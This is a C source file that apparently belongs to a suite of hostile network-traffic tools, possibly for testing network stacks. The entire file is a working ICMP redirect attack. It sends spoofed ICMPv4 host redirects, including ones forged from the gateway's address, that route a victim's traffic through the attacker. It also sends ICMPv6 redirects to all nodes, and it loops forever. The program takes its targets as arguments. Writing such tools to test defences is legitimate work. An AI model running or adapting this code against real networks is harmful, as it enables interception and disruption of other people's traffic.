/* SPDX-License-Identifier: MIT */
/*
 * ICMP redirects to the host: an ICMPv4 host redirect (to host_mac=,
 * host_ip=) telling it to reach the victim (victim_ip=) through the
 * attacker, sent from the attacker's own address (ip=) and from the
 * gateway's (gw_ip=, default .254 of the host's /24); and an ICMPv6 redirect
 * to all nodes sending 2001:db8::1 to the attacker's link-local address.
 * Forever, paced.
 */
#include "hostile.h"

static uint8_t f[200];

static void redirect4(const uint8_t *host, const uint8_t *mac, uint32_t src,
		      uint32_t hip, uint32_t vip, uint32_t me)
{
	uint8_t *p, *inner;

	memset(f, 0, sizeof(f));
	p = hostile_ipv4(hostile_eth(f, host, mac, ETH_P_IP), 1, src, hip,
			 8 + 28);
	p[0] = 5;			/* redirect */
	p[1] = 1;			/* for the host */
	hostile_put32(p + 4, me);	/* the new gateway */
	/* The datagram that "caused" it: host to victim, UDP. */
	inner = hostile_ipv4(p + 8, 17, hip, vip, 8);
	hostile_udp(inner, 9, 9, 0);
	hostile_put16(p + 2, hostile_fold(hostile_sum(p, 8 + 28, 0)));
	hostile_send(f, 14 + 20 + 8 + 28);
}

static void redirect6(const uint8_t *mac)
{
	uint8_t src[16], *ip6, *p;
	unsigned int len = 40 + 8;

	hostile_ll6(src, mac);
	memset(f, 0, sizeof(f));
	ip6 = hostile_eth(f, hostile_allnodes_mac, mac, ETH_P_IPV6);
	p = hostile_ipv6(ip6, 58, 255, src, hostile_allnodes, len);
	p[0] = 137;			/* redirect */
	memcpy(p + 8, src, 16);		/* target: us */
	p[24] = 0x20;			/* destination 2001:db8::1 */
	p[25] = 0x01;
	p[26] = 0x0d;
	p[27] = 0xb8;
	p[39] = 1;
	p[40] = 2;			/* target link-layer address */
	p[41] = 1;
	memcpy(p + 42, mac, 6);
	hostile_put16(p + 2, hostile_csum6(ip6, 58, len));
	hostile_send(f, 14 + 40 + len);
}

int main(void)
{
	uint32_t vip = hostile_ip_arg("victim_ip", 0x0a000002);
	uint32_t hip = hostile_ip_arg("host_ip", 0x0a000001);
	uint32_t me = hostile_ip_arg("ip", 0x0a000063);
	uint32_t gw = hostile_ip_arg("gw_ip", (hip & ~0xffU) | 254);
	uint8_t mac[6], host[6];
	unsigned long round;

	hostile_own_mac(mac);
	hostile_mac_arg("host_mac", host);
	printf("redirect: redirecting\n");
	for (round = 1;; round++) {
		redirect4(host, mac, me, hip, vip, me);
		redirect4(host, mac, gw, hip, vip, me);
		redirect6(mac);
		hostile_pace("redirect", round, 20000);
	}
}
